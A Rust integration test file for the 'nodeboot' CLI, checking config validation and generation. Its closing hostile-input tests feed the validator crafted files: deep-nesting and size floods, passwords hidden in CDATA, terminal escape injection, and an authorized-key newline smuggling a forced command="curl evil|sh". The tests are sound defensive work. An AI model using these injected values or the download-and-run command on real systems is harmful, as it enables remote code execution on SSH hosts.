//! `nodeboot validate` and `nodeboot generate` as a user runs them: the real binary, real
//! files in a temporary directory, real exit codes and output.
#![allow(clippy::unwrap_used)] // tests may unwrap

use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn nodeboot() -> Command {
    Command::new(env!("CARGO_BIN_EXE_nodeboot"))
}

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures")
}

fn run_with_stdin(mut cmd: Command, stdin: &str) -> Output {
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The command may exit before reading stdin (an early error): ignore a broken pipe.
    let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
    child.wait_with_output().unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[test]
fn validate_accepts_every_valid_fixture() {
    let out = nodeboot()
        .arg("validate")
        .args(
            ["management", "transcoding", "proxying"]
                .map(|r| fixtures().join(format!("valid/{r}.xml"))),
        )
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.ends_with("3 files checked: 3 valid, 0 invalid (0 errors, 0 warnings)\n"),
        "{stdout}"
    );
    assert!(stdout.contains("valid proxying configuration"));
}

#[test]
fn validate_reports_like_a_compiler_and_fails() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("conf01.xml");
    std::fs::copy(fixtures().join("invalid/many-errors.xml"), &bad).unwrap();
    let good = fixtures().join("valid/transcoding.xml");
    let out = nodeboot()
        .current_dir(dir.path())
        .args(["validate", "conf01.xml"])
        .arg(&good)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    let expected = "\
conf01.xml:10:55: error: the default gateway 10.9.0.1 is not in an attached subnet (10.0.0.0/24 or 192.168.10.0/24)
   |
10 |     <ipv4 address=\"10.0.0.31\" netmask=\"255.255.255.0\" gateway=\"10.9.0.1\"/>
   |                                                       ^
  = help: give a gateway inside the eth0 subnet (<ipv4>) or the eth1 subnet (<secondary-ipv4>)
  = at: /node-config/network/ipv4@gateway
";
    assert!(stdout.contains(expected), "{stdout}");
    assert!(
        stdout.contains("conf01.xml:6:13: error: hostname \"conf_01\" is not an RFC 1123 label")
    );
    assert!(stdout.contains("conf01.xml:15:17: error: DNS server \"ns1\" is not an IP address"));
    assert!(
        stdout.ends_with("2 files checked: 1 valid, 1 invalid (3 errors, 0 warnings)\n"),
        "{stdout}"
    );
}

#[test]
fn validate_never_quotes_a_secret() {
    // A plain-text password where the hash belongs: the error points at it, but the quoted
    // line shows stars in its place, column for column.
    let bad = with_password_hash("correct-horse");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("plain.xml");
    std::fs::write(&file, bad).unwrap();
    for json in [false, true] {
        let mut cmd = nodeboot();
        cmd.arg("validate").arg(&file);
        if json {
            cmd.arg("--json");
        }
        let out = cmd.output().unwrap();
        let all = text(&out.stdout) + &text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{all}");
        assert!(!all.contains("correct-horse"), "{all}");
        if !json {
            assert!(
                all.contains("<password-hash>*************</password-hash>"),
                "{all}"
            );
        }
    }
}

#[test]
fn validate_json_is_machine_readable() {
    let out = nodeboot()
        .args(["validate", "--json"])
        .arg(fixtures().join("invalid/gateway-outside.xml"))
        .arg(fixtures().join("valid/management.xml"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["valid"], 1);
    assert_eq!(v["invalid"], 1);
    let e = &v["files"][0]["errors"][0];
    assert_eq!(e["severity"], "error");
    assert_eq!(e["path"], "/node-config/network/ipv4@gateway");
    assert_eq!(
        (e["line"].as_u64(), e["column"].as_u64()),
        (Some(10), Some(55))
    );
    assert_eq!(v["files"][1]["role"], "management");
    assert_eq!(v["files"][1]["digest"].as_str().unwrap().len(), 64);
}

#[test]
fn validate_strict_fails_on_warnings() {
    // A certificate that expires in 10 days: valid with a warning; invalid with --strict.
    let mut params = rcgen::CertificateParams::new(vec!["conf01.example.com".to_string()]).unwrap();
    let now = time::OffsetDateTime::now_utc();
    params.not_before = now - time::Duration::days(1);
    params.not_after = now + time::Duration::days(10);
    let key = rcgen::KeyPair::generate().unwrap();
    let cert = params.self_signed(&key).unwrap();
    let base = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
    let doc = base.replace(
        "  <ssh enabled=\"global\">",
        &format!(
            "  <sip-tls-fqdn>conf01.example.com</sip-tls-fqdn>\n  <tls>\n    <certificate>\n{}</certificate>\n    <private-key>\n{}</private-key>\n  </tls>\n  <ssh enabled=\"global\">",
            cert.pem(),
            key.serialize_pem()
        ),
    );
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("soon.xml");
    std::fs::write(&f, doc).unwrap();

    let out = nodeboot().arg("validate").arg(&f).output().unwrap();
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains(": warning: the certificate expires on "),
        "{stdout}"
    );
    assert!(
        stdout.contains("1 valid, 0 invalid (0 errors, 1 warning)"),
        "{stdout}"
    );

    let out = nodeboot()
        .args(["validate", "--strict"])
        .arg(&f)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stdout)
            .contains("0 valid, 1 invalid (0 errors, 1 warning), warnings fail (--strict)")
    );
}

#[test]
fn validate_reads_metadata_json_and_reports_unreadable_files() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("user-data.json");
    std::fs::write(&j, br#"{"management_node_config": {"hostname": "mgr01"}}"#).unwrap();
    let out = nodeboot()
        .arg("validate")
        .arg(&j)
        .arg(dir.path().join("missing.xml"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("user-data.json: error: field \"domain\" is missing"),
        "{stdout}"
    );
    assert!(
        stdout.contains("  = at: management_node_config.domain"),
        "{stdout}"
    );
    assert!(
        stdout.contains("missing.xml: error: cannot read the file: No such file or directory"),
        "{stdout}"
    );
}

const TRANSCODING_FLAGS: &[&str] = &[
    "generate",
    "--role",
    "transcoding",
    "--hostname",
    "conf01",
    "--domain",
    "example.com",
    "--system-location",
    "London",
    "--ip",
    "10.0.0.31",
    "--netmask",
    "255.255.255.0",
    "--gateway",
    "10.0.0.1",
    "--dns",
    "10.0.0.2,10.0.0.3",
    "--ntp",
    "pool.ntp.org",
    "--management-node",
    "10.0.0.10",
    "--route",
    "media:192.168.50.0/24:10.0.0.254",
    "--password-stdin",
];

#[test]
fn generate_writes_a_valid_file_named_after_the_fqdn() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("op.pub");
    std::fs::write(&key, "# comment\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJveDDZPaLWieLA4qD7Aak3Vrs39NCNlSx891qrtIGg operator@example.com\n").unwrap();
    let mut cmd = nodeboot();
    cmd.current_dir(dir.path())
        .args(TRANSCODING_FLAGS)
        .arg("--authorized-key-file")
        .arg(&key);
    let out = run_with_stdin(cmd, "s3cret pass\n");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let file = dir.path().join("conf01.example.com.xml");
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let bytes = std::fs::read(&file).unwrap();
    let parsed = nodeboot_config::parse(&bytes).unwrap();
    let c = parsed.config();
    assert_eq!(c.fqdn(), "conf01.example.com");
    assert_eq!(c.network.dns_servers.len(), 2);
    assert_eq!(c.network.routes[0].name, "media");
    assert_eq!(c.ssh.authorized_keys.len(), 1);
    assert!(nodeboot_config::verify_password(
        "s3cret pass",
        &c.ssh.password_hash
    ));
    assert!(!text(&bytes).contains("s3cret"));

    // The generated file passes `nodeboot validate`.
    let out = nodeboot()
        .current_dir(dir.path())
        .args(["validate", "conf01.example.com.xml"])
        .output()
        .unwrap();
    assert!(out.status.success());

    // A second run refuses to overwrite; --force overwrites.
    let mut cmd = nodeboot();
    cmd.current_dir(dir.path()).args(TRANSCODING_FLAGS);
    let out = run_with_stdin(cmd, "other\n");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("conf01.example.com.xml exists; use --force"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(std::fs::read(&file).unwrap(), bytes);
    let mut cmd = nodeboot();
    cmd.current_dir(dir.path())
        .args(TRANSCODING_FLAGS)
        .arg("--force");
    let out = run_with_stdin(cmd, "other\n");
    assert!(out.status.success());
    let c = nodeboot_config::parse(&std::fs::read(&file).unwrap())
        .unwrap()
        .into_config();
    assert!(nodeboot_config::verify_password(
        "other",
        &c.ssh.password_hash
    ));
}

#[test]
fn generate_names_the_flags_that_are_wrong_or_missing() {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = nodeboot();
    cmd.current_dir(dir.path())
        .args([
            "generate",
            "--role",
            "transcoding",
            "--hostname",
            "conf01",
            "--domain",
            "example.com",
        ])
        .args([
            "--ip",
            "10.0.0.31",
            "--netmask",
            "255.255.255.0",
            "--gateway",
            "10.9.0.1",
        ])
        .args([
            "--dns",
            "10.0.0.2",
            "--ntp",
            "pool.ntp.org",
            "--password-stdin",
        ]);
    let out = run_with_stdin(cmd, "pw\n");
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("nodeboot generate: --management-node: missing"),
        "{stderr}"
    );
    assert!(
        stderr.contains("nodeboot generate: --system-location: missing"),
        "{stderr}"
    );

    let mut cmd = nodeboot();
    let flags: Vec<&str> = TRANSCODING_FLAGS
        .iter()
        .map(|f| if *f == "10.0.0.1" { "10.9.0.1" } else { f })
        .collect();
    cmd.current_dir(dir.path()).args(flags);
    let out = run_with_stdin(cmd, "pw\n");
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("nodeboot generate: --gateway: the default gateway 10.9.0.1 is not in an attached subnet (10.0.0.0/24)"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        0,
        "nothing written"
    );
}

#[test]
fn generate_never_takes_a_password_from_a_flag() {
    let out = nodeboot()
        .args(["generate", "--password", "x"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("unexpected argument '--password'"));
}

#[test]
fn generate_from_an_inventory_node() {
    let dir = tempfile::tempdir().unwrap();
    let inv = dir.path().join("inventory.toml");
    std::fs::write(
        &inv,
        r#"
[defaults]
domain = "example.com"
netmask = "255.255.255.0"
gateway = "10.0.0.1"
dns = ["10.0.0.2"]
ntp = ["pool.ntp.org"]

[[node]]
name = "mgr01"
address = "10.0.0.10"
role = "management"
hostname = "mgr01"
ip = "10.0.0.10"
web_admin_user = "admin"
incident_reporting = false
usage_statistics = true
"#,
    )
    .unwrap();
    // `generate` of mgr01 into `output`, the passwords read from `stdin`
    let generate = |output: &str, stdin: &str| {
        let mut cmd = nodeboot();
        cmd.current_dir(dir.path()).args([
            "generate",
            "--from",
            "inventory.toml",
            "--node",
            "mgr01",
            "--password-stdin",
            "-o",
            output,
        ]);
        run_with_stdin(cmd, stdin)
    };
    let out = generate("out.xml", "os-pass\nweb-pass\n");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let c = nodeboot_config::parse(&std::fs::read(dir.path().join("out.xml")).unwrap())
        .unwrap()
        .into_config();
    let m = c.management().unwrap();
    assert!(m.usage_statistics && !m.incident_reporting);
    assert!(nodeboot_config::verify_password(
        "os-pass",
        &c.ssh.password_hash
    ));
    assert!(nodeboot_config::verify_password(
        "web-pass",
        &m.web_admin.password_hash
    ));

    // Only one password line for a management node: a clear error, nothing written.
    let out = generate("two.xml", "os-pass\n");
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("stdin ended before the web admin password"));
    assert!(!Path::new(&dir.path().join("two.xml")).exists());

    let out = nodeboot()
        .current_dir(dir.path())
        .args(["generate", "--from", "inventory.toml", "--node", "nope"])
        .output()
        .unwrap();
    assert!(text(&out.stderr).contains("no node named \"nope\" (nodes: mgr01)"));
}

#[test]
fn help_fits_80_columns_and_has_examples() {
    for sub in ["validate", "generate"] {
        let out = nodeboot()
            .args([sub, "--help"])
            .env("COLUMNS", "200")
            .output()
            .unwrap();
        let help = text(&out.stdout);
        assert!(help.contains("Examples:"), "{sub}");
        for line in help.lines() {
            assert!(line.chars().count() <= 80, "{sub}: {line:?}");
        }
    }
}

#[test]
fn generate_to_stdout_writes_no_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = nodeboot();
    cmd.current_dir(dir.path())
        .args(TRANSCODING_FLAGS)
        .args(["-o", "-"]);
    let out = run_with_stdin(cmd, "pw\n");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let parsed = nodeboot_config::parse(&out.stdout).unwrap();
    assert_eq!(parsed.config().fqdn(), "conf01.example.com");
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
}

// ---- hostile input (issue #10): bounded work, bounded answers, no secret, no escape ----

/// Runs `nodeboot validate` on `content` written as `name` in a fresh directory (relative name,
/// so messages start with it); text output and JSON output.
fn validate_file(name: &str, content: &[u8]) -> (Output, Output) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(name), content).unwrap();
    let run = |json: bool| {
        let mut cmd = nodeboot();
        cmd.current_dir(dir.path()).arg("validate").arg(name);
        if json {
            cmd.arg("--json");
        }
        cmd.output().unwrap()
    };
    (run(false), run(true))
}

fn json_errors(out: &Output) -> Vec<serde_json::Value> {
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["files"][0]["errors"].as_array().unwrap().clone()
}

/// The typical transcoding file with the content of `<password-hash>` replaced.
fn with_password_hash(content: &str) -> String {
    with_text_of("password-hash", content).0
}

/// The typical transcoding file with the content of its first `<element>` replaced, and the
/// line and column where that content starts.
fn with_text_of(element: &str, content: &str) -> (String, usize, usize) {
    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
    let open = format!("<{element}>");
    let start = good.find(&open).unwrap() + open.len();
    let end = good.find(&format!("</{element}>")).unwrap();
    let line = good[..start].lines().count();
    let column = good[..start].lines().last().unwrap().chars().count() + 1;
    (
        format!("{}{content}{}", &good[..start], &good[end..]),
        line,
        column,
    )
}

#[test]
fn validate_refuses_50000_deep_nesting_with_a_located_error() {
    // 350 KB: the request that overflowed the stack. Now: one located error, exit 1.
    let doc = format!(
        "<node-config schema=\"1\">{}{}</node-config>",
        "<a>".repeat(50_000),
        "</a>".repeat(50_000)
    );
    assert!(doc.len() > 350_000);
    let (out, json) = validate_file("deep.xml", doc.as_bytes());
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}{}", text(&out.stderr));
    // <node-config> is level 1, the 8th <a> is level 9: column 25 + 7 × 3.
    assert!(
        stdout.starts_with(
            "deep.xml:1:46: error: element <a> is nested 9 levels deep, over the limit of 8\n"
        ),
        "{}",
        &stdout[..stdout.len().min(400)]
    );
    assert!(
        stdout.len() < 2000,
        "the report is bounded: {}",
        stdout.len()
    );
    assert_eq!(json.status.code(), Some(1));
    let errors = json_errors(&json);
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0]["path"], "/node-config/a/a/a/a/a/a/a");
}

#[test]
fn validate_one_mib_of_empty_elements_stops_at_the_element_limit() {
    let head = "<node-config schema=\"1\">";
    let doc = format!("{head}{}", "<x/>".repeat((1024 * 1024 - head.len()) / 4));
    let (out, json) = validate_file("wide.xml", doc.as_bytes());
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    // the 4096th element after the root is the 4097th: column 25 + 4095 × 4
    assert!(
        stdout.starts_with("wide.xml:1:16405: error: the file has more than 4096 elements\n"),
        "{}",
        &stdout[..stdout.len().min(400)]
    );
    // the quoted line is a window around the column, not the whole megabyte
    assert!(stdout.len() < 2000, "{}", stdout.len());
    assert_eq!(json_errors(&json).len(), 1);
    // also raw, without a root: one error
    let (out, _) = validate_file("raw.xml", "<x/>".repeat(262_144).as_bytes());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stdout)
            .lines()
            .filter(|l| l.contains(": error: "))
            .count()
            <= 101
    );
}

#[test]
fn validate_lists_at_most_100_errors_then_and_n_more() {
    // 4000 unknown elements (under the element limit) and 200,000 bad references: far more
    // than 100 findings each, listed as 100 and one "and N more" entry.
    let unknown = format!(
        "<node-config schema=\"1\">\n{}</node-config>\n",
        "<x/>\n".repeat(4000)
    );
    let refs = format!(
        "<node-config schema=\"1\">{}</node-config>",
        "&a;".repeat(200_000)
    );
    for (doc, more) in [
        (unknown, "and 3906 more errors"),
        (refs, "and 199900 more errors"),
    ] {
        let (out, json) = validate_file("many.xml", doc.as_bytes());
        assert_eq!(out.status.code(), Some(1));
        let errors = json_errors(&json);
        assert_eq!(errors.len(), 101, "{:?}", errors.last());
        assert_eq!(errors[100]["message"], more);
        assert_eq!(
            (errors[100]["line"].as_u64(), errors[100]["path"].as_str()),
            (Some(0), Some(""))
        );
        let stdout = text(&out.stdout);
        assert_eq!(stdout.matches(": error: ").count(), 101);
        assert!(
            stdout.contains(&format!("many.xml: error: {more}\n")),
            "{stdout}"
        );
        let total: usize = more.split(' ').nth(1).unwrap().parse::<usize>().unwrap() + 100;
        assert!(
            stdout.ends_with(&format!(
                "1 file checked: 0 valid, 1 invalid ({total} errors, 0 warnings)\n"
            )),
            "{}",
            &stdout[stdout.len().saturating_sub(300)..]
        );
    }
}

#[test]
fn validate_never_prints_a_password_hidden_in_cdata_references_or_comments() {
    let mgmt = std::fs::read_to_string(fixtures().join("valid/management.xml")).unwrap();
    let web = regex::Regex::new(r#"password-hash="[^"]*""#).unwrap();
    let cases = [
        with_password_hash("<![CDATA[correct horse]]>"),
        with_password_hash("<!-- a --><![CDATA[correct ]]>&#104;orse<!--x-->"),
        with_password_hash("\n<![CDATA[correct horse\n]]>\n"),
        // not well-formed inside the secret: quick-xml's words could quote it
        with_password_hash("<![CDATA[correct horse]]><horse/>"),
        with_password_hash("<correct-horse>"),
        with_password_hash("&correct-horse;"),
        with_password_hash("<![CDATA[correct horse"),
        // on a line with an error after it, and unread after the error
        with_password_hash("<![CDATA[correct horse]]></password-hash><x y=1>"),
        web.replace(&mgmt, r#"password-hash="correct&#32;horse""#)
            .into_owned(),
    ];
    for (i, doc) in cases.iter().enumerate() {
        assert_ne!(&mgmt, doc);
        let (out, json) = validate_file("plain.xml", doc.as_bytes());
        for o in [&out, &json] {
            let all = text(&o.stdout) + &text(&o.stderr);
            assert_eq!(o.status.code(), Some(1), "case {i}: {all}");
            for needle in ["correct", "horse", "&#104;"] {
                assert!(
                    !all.contains(needle),
                    "case {i}: {needle:?} printed:\n{all}"
                );
            }
        }
    }
    // JSON metadata: the plain-text password of `pass`, in valid and in broken JSON
    for doc in [
        r#"{"management_node_config": {"pass": "correct horse"}}"#,
        r#"{"management_node_config": {"pass" "correct horse"}}"#,
        "{\"conferencing_node_config\": \"<node-config schema='1'>\\n<ssh><password-hash><![CDATA[correct horse]]></password-hash></ssh><x y=1></node-config>\"}",
    ] {
        let (out, json) = validate_file("meta.json", doc.as_bytes());
        for o in [&out, &json] {
            let all = text(&o.stdout) + &text(&o.stderr);
            assert_eq!(o.status.code(), Some(1), "{all}");
            assert!(!all.contains("correct"), "{doc}:\n{all}");
        }
    }
}

#[test]
fn validate_prints_no_control_character_from_the_file() {
    // ESC and BEL in an element name, in a value, in an attribute and in the file's name
    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
    let doc = good
        .replacen("<network>", "<network><x\u{1b}]0;owned\u{7}/>", 1)
        .replacen("<name>", "<name>a&#27;[2J&#7;", 1)
        .replacen("<ipv4 ", "<ipv4 junk=\"&#x1b;[31m&#x9b;\" ", 1);
    let name = "bad\u{1b}[2J\u{7}.xml";
    let (out, json) = validate_file(name, doc.as_bytes());
    assert_eq!(out.status.code(), Some(1));
    for b in [0x1b_u8, 0x07, 0x9b] {
        assert!(
            !out.stdout.contains(&b) && !out.stderr.contains(&b),
            "byte {b:#x} printed:\n{}",
            text(&out.stdout)
        );
    }
    let stdout = text(&out.stdout);
    assert!(stdout.contains("bad[2J.xml:"), "{stdout}");
    assert!(
        stdout.contains("error: an element name here contains the control character U+001B"),
        "{stdout}"
    );
    // JSON escapes what it carries; still no raw control byte
    assert!(!json.stdout.contains(&0x1b) && !json.stdout.contains(&0x07));
    // the name and attribute, read when the element name is clean
    let doc = good.replacen("<name>", "<name>a&#27;[2J&#7;", 1).replacen(
        "<ipv4 ",
        "<ipv4 junk=\"&#x1b;[31m&#x9b;\" ",
        1,
    );
    let (out, _) = validate_file("ctl.xml", doc.as_bytes());
    let stdout = text(&out.stdout);
    assert!(!out.stdout.contains(&0x1b), "{stdout}");
    assert!(
        stdout.contains("error: <name> contains the control character U+001B\n"),
        "{stdout}"
    );
}

#[test]
fn validate_refuses_a_second_line_inside_an_authorized_key() {
    // `&#10;` would have written a second authorized_keys line with a forced command
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJveDDZPaLWieLA4qD7Aak3Vrs39NCNlSx891qrtIGg";
    for evil in [
        format!("{key} a&#10;command=\"curl evil|sh\" {key} b"),
        format!("{key} a&#13;command=\"curl evil|sh\" {key} b"),
        format!("{key} a<![CDATA[\n]]>command=\"x\" {key} b"),
    ] {
        let (doc, line, column) = with_text_of("authorized-key", &evil);
        let (out, json) = validate_file("keys.xml", doc.as_bytes());
        let stdout = text(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{stdout}");
        assert!(
            stdout.contains(&format!(
                "keys.xml:{line}:{column}: error: <authorized-key> contains the control character U+000"
            )),
            "{stdout}"
        );
        let errors = json_errors(&json);
        assert_eq!(errors.len(), 1, "{errors:?}");
        assert_eq!(errors[0]["path"], "/node-config/ssh/authorized-key");
    }
}
